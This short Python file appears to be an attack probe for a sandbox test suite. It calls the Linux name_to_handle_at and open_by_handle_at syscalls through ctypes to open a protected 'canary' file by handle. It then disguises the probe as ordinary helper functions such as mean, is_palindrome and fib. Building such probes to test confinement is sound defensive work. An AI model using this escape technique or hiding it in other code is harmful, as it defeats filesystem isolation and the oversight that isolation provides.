import ctypes

from attacker import TARGETS, wins_if

HERE, NAME_TO_HANDLE, OPEN_BY_HANDLE = -100, 303, 304


def attack(value):
    call = ctypes.CDLL(None).syscall
    handle = ctypes.create_string_buffer(b"\x80", 256)
    mount = ctypes.c_int()
    named = call(NAME_TO_HANDLE, HERE, TARGETS["canary"].encode(), handle, ctypes.byref(mount), 0)
    return named == 0 or call(OPEN_BY_HANDLE, HERE, handle, 0) >= 0


mean = is_palindrome = word_count = fib = wins_if(attack)
